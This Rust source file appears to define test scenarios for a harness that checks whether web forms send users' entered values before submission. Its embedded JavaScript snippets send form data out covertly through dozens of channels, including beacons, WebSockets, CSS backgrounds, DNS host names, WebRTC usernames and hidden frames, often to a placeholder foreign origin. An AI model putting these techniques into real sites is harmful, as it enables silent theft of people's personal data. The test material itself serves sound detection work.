//! The ways to send a person's values before anybody decided to.

/// What has to happen to the page for it to try.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Provocation {
    /// A text field is filled and left.
    Fill,
    /// A file is handed to the file input.
    Attach,
    /// Enter is pressed in a text field.
    Enter,
    /// The button with the id `more` is pressed.
    Press,
    /// The option `India` of the list at `#country` is chosen.
    Pick,
    /// The page is left.
    Leave,
}

/// One way.
#[derive(Debug, Clone, Copy)]
pub struct Scenario {
    /// Its name in addresses.
    pub id: &'static str,
    /// What the page does.
    pub claim: &'static str,
    /// What makes it do so.
    pub provocation: Provocation,
    /// Markup inside the form.
    pub(super) extra: &'static str,
    /// The page's own script.
    pub(super) script: &'static str,
}

/// A button beside the one that submits.
const MORE: &str = r#"<p><button type="button" id="more">Save and continue</button></p>"#;

/// A list built from scratch, as most systems have it.
const COUNTRY: &str = r#"<div><label id="country-label" for="country">Country *</label>
<input id="country" name="country" role="combobox" aria-expanded="false" aria-controls="countries" aria-autocomplete="list" aria-required="true" autocomplete="off">
<ul id="countries" role="listbox" aria-labelledby="country-label" hidden>
<li id="c1" role="option">Austria</li><li id="c2" role="option">Canada</li><li id="c3" role="option">France</li>
<li id="c4" role="option">Germany</li><li id="c5" role="option">India</li><li id="c6" role="option">Ireland</li>
<li id="c7" role="option">United Kingdom</li><li id="c8" role="option">United States</li></ul></div>"#;

/// What makes that list work; it ends in `chosen(option)`.
macro_rules! list_script {
    ($chosen:literal) => {
        concat!(
            "const box = document.getElementById('country'), list = document.getElementById('countries');\n",
            "const show = open => { list.hidden = !open; box.setAttribute('aria-expanded', open); };\n",
            "box.addEventListener('click', () => show(true));\n",
            "box.addEventListener('input', () => { show(true); for (const o of list.children) o.hidden = !o.textContent.toLowerCase().includes(box.value.toLowerCase()); });\n",
            "box.addEventListener('keydown', e => { if (e.key === 'ArrowDown') show(true); if (e.key === 'Escape') show(false); });\n",
            "for (const o of list.children) o.addEventListener('mousedown', e => { e.preventDefault(); box.value = o.textContent; show(false); chosen(o); });\n",
            "const chosen = option => { ",
            $chosen,
            " };\n"
        )
    };
}

const fn on_fill(id: &'static str, claim: &'static str, script: &'static str) -> Scenario {
    Scenario { id, claim, provocation: Provocation::Fill, extra: "", script }
}

/// Every scenario.
pub const SCENARIOS: &[Scenario] = &[
    // Submissions nobody asked for
    Scenario {
        id: "enter",
        claim: "Enter in a text field submits the form",
        provocation: Provocation::Enter,
        extra: "",
        script: "",
    },
    on_fill("request-submit", "requestSubmit() on every keystroke", "on('input', () => form.requestSubmit());"),
    on_fill(
        "timer",
        "a timer submits shortly after the first value",
        "on('input', () => setTimeout(() => HTMLFormElement.prototype.submit.call(form), 150));",
    ),
    on_fill(
        "last-blur",
        "leaving the last field submits",
        "document.getElementById('phone').addEventListener('blur', () => form.requestSubmit());",
    ),
    Scenario {
        id: "next-submits",
        claim: "the button named Next submits the whole application",
        provocation: Provocation::Press,
        extra: r#"<p><button type="submit" id="more">Next</button></p>"#,
        script: "",
    },
    Scenario {
        id: "plain-button",
        claim: "a button of type button posts the form from its handler",
        provocation: Provocation::Press,
        extra: MORE,
        script: "document.getElementById('more').addEventListener('click', () => fetch(form.action, { method: 'POST', body: new FormData(form) }));",
    },
    Scenario {
        id: "option-submits",
        claim: "choosing an option submits the form",
        provocation: Provocation::Pick,
        extra: COUNTRY,
        script: list_script!("form.requestSubmit();"),
    },
    on_fill(
        "get-form",
        "the form is sent by GET when a field is left",
        "on('change', () => { form.method = 'get'; form.enctype = 'application/x-www-form-urlencoded'; form.requestSubmit(); });",
    ),
    on_fill(
        "new-tab",
        "the form is submitted into a new tab",
        "on('input', once(() => { form.target = '_blank'; form.requestSubmit(); }));",
    ),
    on_fill(
        "hidden-frame",
        "a copy of the form is posted into a hidden frame",
        "const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'sink', hidden: true }));
on('input', () => {
  const copy = document.body.appendChild(Object.assign(document.createElement('form'), { method: 'post', action: form.action, target: 'sink', hidden: true }));
  for (const [name, value] of Object.entries(values())) copy.append(Object.assign(document.createElement('input'), { name, value }));
  copy.submit();
});",
    ),
    // Copies in the background
    on_fill("beacon", "sendBeacon of every keystroke", "on('input', () => navigator.sendBeacon('draft', json()));"),
    on_fill(
        "fetch-post",
        "fetch posts a draft when a field changes",
        "on('change', () => fetch('draft', { method: 'POST', body: json() }));",
    ),
    on_fill(
        "xhr-base64",
        "XMLHttpRequest posts base64 to another origin",
        "on('input', () => { const x = new XMLHttpRequest(); x.open('POST', ELSEWHERE + '/collect'); x.send(base64(json())); });",
    ),
    on_fill(
        "fetch-hex",
        "fetch gets a path that spells the values in hex",
        "on('input', () => fetch(ELSEWHERE + '/p/' + hex(json()), { mode: 'no-cors' }));",
    ),
    on_fill(
        "put",
        "fetch puts a draft with the values escaped as JSON numbers",
        "on('change', () => fetch('draft', { method: 'PUT', body: '\"' + [...json()].map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '\"' }));",
    ),
    on_fill(
        "image",
        "an image's address carries the values",
        "on('input', () => { new Image().src = ELSEWHERE + '/pixel.gif?d=' + encodeURIComponent(base64(json())); });",
    ),
    on_fill(
        "script-tag",
        "a script's address carries the values",
        "on('input', () => document.head.append(Object.assign(document.createElement('script'), { src: ELSEWHERE + '/lib.js?' + query() })));",
    ),
    on_fill(
        "style",
        "a style rule loads a background named after the value",
        "const sheet = document.head.appendChild(document.createElement('style'));
on('input', f => { f.setAttribute('value', f.value); sheet.textContent += `input[value=${JSON.stringify(f.value)}] { background: url(${JSON.stringify(ELSEWHERE + '/bg?v=' + encodeURIComponent(f.value))}) }`; });",
    ),
    on_fill(
        "web-socket",
        "a WebSocket sends every keystroke",
        "const socket = new WebSocket(ELSEWHERE.replace('http', 'ws') + '/socket'); const queue = [];
socket.onopen = () => queue.splice(0).forEach(m => socket.send(m));
on('input', () => socket.readyState === 1 ? socket.send(json()) : queue.push(json()));",
    ),
    on_fill(
        "web-socket-address",
        "a WebSocket's address carries the values",
        "on('input', () => new WebSocket(ELSEWHERE.replace('http', 'ws') + '/socket?' + query()));",
    ),
    on_fill(
        "event-source",
        "an event source's address carries the values",
        "on('input', () => new EventSource(ELSEWHERE + '/events?' + query()));",
    ),
    on_fill(
        "anchor-ping",
        "a link's ping carries the values",
        "const link = document.body.appendChild(Object.assign(document.createElement('a'), { href: '#', textContent: 'Details' }));
on('input', () => { link.ping = ELSEWHERE + '/ping?' + query(); link.click(); });",
    ),
    on_fill(
        "download",
        "a download link's address carries the values",
        "const link = document.body.appendChild(Object.assign(document.createElement('a'), { download: 'terms.txt', textContent: 'Terms' }));
on('change', () => { link.href = 'terms.txt?' + query(); link.click(); });",
    ),
    on_fill(
        "prefetch",
        "a prefetched page's address carries the values",
        "on('input', () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: ELSEWHERE + '/next?' + query() })));",
    ),
    on_fill(
        "speculation",
        "a speculation rule prerenders an address with the values",
        "on('change', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['speculated?' + query()], eagerness: 'immediate' }] }); document.head.append(s); });",
    ),
    on_fill(
        "host-name",
        "the value is the name of the host; already the TLS greeting tells it",
        "on('input', f => fetch(ELSEWHERE.replace('http://', 'https://' + f.value.replace(/[^a-z0-9]/gi, '-').replace(/^-+|-+$/g, '') + '.')));",
    ),
    // Behind the page's back
    on_fill(
        "worker",
        "a worker posts what the page tells it",
        "const worker = new Worker('worker.js'); on('input', () => worker.postMessage(json()));",
    ),
    on_fill(
        "shared-worker",
        "a shared worker posts what the page tells it",
        "const worker = new SharedWorker('shared-worker.js'); on('input', () => worker.port.postMessage(json()));",
    ),
    on_fill(
        "service-worker",
        "a service worker posts what the page tells it",
        "const ready = navigator.serviceWorker.register('service-worker.js').then(() => navigator.serviceWorker.ready);
on('input', () => { const text = json(); ready.then(r => r.active.postMessage(text)); });",
    ),
    on_fill(
        "frame-message",
        "a frame of another origin posts what the page tells it",
        "const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: ELSEWHERE + '/frame.html' }));
frame.onload = () => frame.contentWindow.postMessage(json(), '*'); on('input', () => frame.contentWindow.postMessage(json(), '*'));",
    ),
    on_fill(
        "peer-connection",
        "a WebRTC connectivity check carries the value in its user name",
        "on('change', async field => {
  const peer = new RTCPeerConnection(); peer.createDataChannel('x');
  const offer = await peer.createOffer(); await peer.setLocalDescription(offer);
  const sdp = offer.sdp.replace(/a=setup:actpass/g, 'a=setup:passive').replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:' + hex(field.value)).replace(/a=ice-pwd:.*/g, 'a=ice-pwd:' + 'p'.repeat(24));
  await peer.setRemoteDescription({ type: 'answer', sdp });
  await peer.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 ${DATAGRAMS.replace(':', ' ')} typ host`, sdpMid: '0', sdpMLineIndex: 0 });
});",
    ),
    on_fill(
        "csp-report",
        "a policy violation report names an address with the values",
        "on('change', () => { history.replaceState(null, '', '?' + query()); new Image().src = 'http://blocked.localhost/'; });",
    ),
    // Where a request is not looked at
    on_fill(
        "referrer",
        "a request with a clean address names the values as where it came from",
        "on('change', () => { history.replaceState(null, '', '?' + query()); fetch('pixel.gif?' + Math.random(), { referrerPolicy: 'unsafe-url' }); });",
    ),
    on_fill(
        "cookie",
        "a request with a clean address carries the values as a cookie",
        "on('change', () => { document.cookie = 'draft=' + base64(json()) + '; path=/'; fetch('pixel.gif?' + Math.random()); });",
    ),
    on_fill(
        "request-header",
        "a request with a clean address carries the values in a header",
        "on('change', () => fetch('pixel.gif', { headers: { 'X-Draft': base64(json()) } }));",
    ),
    // By other doors of the same house
    on_fill(
        "cookie-store",
        "the asynchronous way to write the cookie",
        "on('change', async () => { await cookieStore.set('draft', base64(json())); fetch('pixel.gif?' + Math.random()); });",
    ),
    on_fill(
        "cookie-behind-the-back",
        "a cookie is written again and again while clean requests are on their way",
        "const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
const set = Object.getOwnPropertyDescriptor(frame.Document.prototype, 'cookie').set;
on('change', () => { const text = 'behind=' + hex(json()) + '; path=/'; for (let n = 0; n < 40; n++) setTimeout(() => {
  set.call(document, 'behind=; path=/; max-age=0'); fetch('pixel.gif?' + Math.random()); set.call(document, text); }, n * 5); });",
    ),
    on_fill(
        "download-from-frame",
        "a download link in a frame that never had a document carries the values",
        "const inner = document.body.appendChild(document.createElement('iframe')).contentDocument;
on('change', () => { const link = inner.body.appendChild(inner.createElement('a')); link.download = ''; link.href = new URL('terms.txt?' + query(), location); link.dispatchEvent(new MouseEvent('click')); });",
    ),
    on_fill(
        "alt-click",
        "a link is clicked as one does to save what it leads to",
        "const link = document.body.appendChild(document.createElement('a'));
on('change', () => { link.href = 'terms.txt?' + query(); link.dispatchEvent(new MouseEvent('click', { altKey: true, bubbles: true, cancelable: true })); });",
    ),
    on_fill(
        "preconnect",
        "a connection is opened in advance to a host named after the value",
        "on('input', f => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: ELSEWHERE.replace('http://', 'https://' + f.value.replace(/[^a-z0-9]/gi, '-').replace(/^-+|-+$/g, '') + '.preconnect.') })));",
    ),
    on_fill(
        "prerender",
        "a speculation rule prerenders a whole page at an address with the values",
        "on('change', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ urls: ['speculated?' + query()], eagerness: 'immediate' }] }); document.head.append(s); });",
    ),
    on_fill(
        "reporting",
        "a report to a named endpoint tells an address with the values",
        "on('change', () => { history.replaceState(null, '', '?' + query()); new Image().src = 'http://blocked.localhost/'; });",
    ),
    on_fill(
        "frame-address",
        "a frame's address carries the values",
        "const frame = document.body.appendChild(document.createElement('iframe')); on('input', () => { frame.src = ELSEWHERE + '/frame.html?' + query(); });",
    ),
    on_fill(
        "frame-of-text",
        "a frame made of text posts what it was made with",
        "on('input', () => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>fetch(' + JSON.stringify(new URL('draft', location).href) + ', { method: \"POST\", body: atob(\"' + base64(json()) + '\") })<\\/script>' })));",
    ),
    on_fill(
        "frame-removed",
        "a frame sends a beacon when it is taken away",
        "on('change', () => { const frame = document.body.appendChild(document.createElement('iframe')), text = json(); frame.contentWindow.addEventListener('pagehide', () => frame.contentWindow.navigator.sendBeacon(new URL('draft', location), text)); frame.remove(); });",
    ),
    on_fill(
        "sandboxed-frame",
        "a form in a sandboxed frame posts the values",
        "on('input', () => { const frame = document.createElement('iframe'); frame.sandbox = 'allow-scripts allow-forms'; frame.srcdoc = '<form method=post action=\"' + ELSEWHERE + '/collect\"><input name=d value=\"' + hex(json()) + '\"></form><script>document.forms[0].submit()<\\/script>'; document.body.append(frame); });",
    ),
    on_fill(
        "text-worker",
        "a worker made of text posts what it is told",
        "const worker = new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data[0], { method: \"POST\", body: e.data[1] })']))); on('input', () => worker.postMessage([new URL('draft', location).href, json()]));",
    ),
    on_fill(
        "imported-script",
        "a worker imports a script whose address carries the values",
        "on('change', () => new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(ELSEWHERE + '/lib.js?' + query()) + ')']))));",
    ),
    on_fill(
        "module",
        "a module's address carries the values",
        "on('change', () => import(ELSEWHERE + '/lib.js?' + query()));",
    ),
    on_fill(
        "worklet",
        "an audio worklet's module has an address with the values",
        "const audio = new OfflineAudioContext(1, 128, 44100); on('change', () => audio.audioWorklet.addModule(ELSEWHERE + '/lib.js?' + query()));",
    ),
    on_fill(
        "font",
        "a font's address carries the values",
        "on('input', () => new FontFace('x', 'url(' + JSON.stringify(ELSEWHERE + '/font?' + query()) + ')').load().catch(() => {}));",
    ),
    on_fill(
        "media",
        "a sound's address carries the values",
        "on('input', () => { new Audio(ELSEWHERE + '/sound?' + query()).load(); });",
    ),
    on_fill(
        "object",
        "an embedded object's address carries the values",
        "on('input', () => document.body.append(Object.assign(document.createElement('object'), { data: ELSEWHERE + '/object?' + query() })));",
    ),
    on_fill(
        "vector-image",
        "a shape used from another drawing whose address carries the values",
        "on('input', () => { const s = document.body.appendChild(document.createElement('div')); s.innerHTML = '<svg><image href=\"' + ELSEWHERE + '/pixel.gif?' + encodeURIComponent(query()) + '\"/></svg>'; });",
    ),
    on_fill(
        "icon",
        "the page's icon gets an address with the values",
        "on('change', () => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'pixel.gif?' + query() })));",
    ),
    on_fill(
        "xhr-sync",
        "a synchronous request posts while the page stands still",
        "on('change', () => { const x = new XMLHttpRequest(); x.open('POST', 'draft', false); try { x.send(json()); } catch {} });",
    ),
    on_fill(
        "stream-body",
        "a request whose body is made while it is sent",
        "on('change', () => { const text = json(); fetch(ELSEWHERE.replace('http:', 'https:') + '/collect', { method: 'POST', duplex: 'half', body: new Blob([text]).stream() }).catch(() => fetch('draft', { method: 'POST', body: new Blob([text]) })); });",
    ),
    // By going somewhere else
    on_fill(
        "window-open",
        "a window is opened at an address with the values",
        "on('input', once(() => window.open(ELSEWHERE + '/w?' + query(), '_blank', 'noopener')));",
    ),
    on_fill(
        "meta-refresh",
        "a refresh leads to an address with the values",
        "on('change', once(() => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=step-2?' + query(); document.head.append(m); }));",
    ),
    on_fill(
        "location-query",
        "the page goes to an address with the values",
        "on('change', once(() => { location.href = 'step-2?' + query(); }));",
    ),
    on_fill(
        "location-fragment",
        "the page goes to an address with the values in the fragment, and the next page posts it",
        "on('change', once(() => { location.href = 'unpack#' + encodeURIComponent(json()); }));",
    ),
    on_fill(
        "window-name",
        "the page leaves the values in its window's name, and the next page posts it",
        "on('change', once(() => { window.name = json(); location.href = 'unpack'; }));",
    ),
    on_fill(
        "reload",
        "the page writes the values into its own address and reloads",
        "on('change', once(() => { history.replaceState(null, '', '?' + query()); location.reload(); }));",
    ),
    // At the last moment
    Scenario {
        id: "beacon-on-leaving",
        claim: "sendBeacon when the page is hidden",
        provocation: Provocation::Leave,
        extra: "",
        script: "addEventListener('pagehide', () => navigator.sendBeacon('draft', json())); document.addEventListener('visibilitychange', () => navigator.sendBeacon('draft', json()));",
    },
    Scenario {
        id: "keepalive-on-leaving",
        claim: "a fetch that outlives the page",
        provocation: Provocation::Leave,
        extra: "",
        script: "addEventListener('pagehide', () => fetch('draft', { method: 'POST', body: json(), keepalive: true }));",
    },
    Scenario {
        id: "fetch-later",
        claim: "a fetch the browser sends on its own after the page is gone",
        provocation: Provocation::Leave,
        extra: "",
        script: "let later; on('change', () => { later?.abort(); later = new AbortController(); fetchLater(new URL('draft', location).href, { method: 'POST', body: json(), signal: later.signal }); });",
    },
    // Documents
    Scenario {
        id: "upload-elsewhere",
        claim: "a document handed to the file input is sent to another origin at once",
        provocation: Provocation::Attach,
        extra: "",
        script: "document.getElementById('resume').addEventListener('change', e => { const f = new FormData(); f.append('file', e.target.files[0]); fetch(ELSEWHERE + '/parse', { method: 'POST', body: f, mode: 'no-cors' }); });",
    },
];
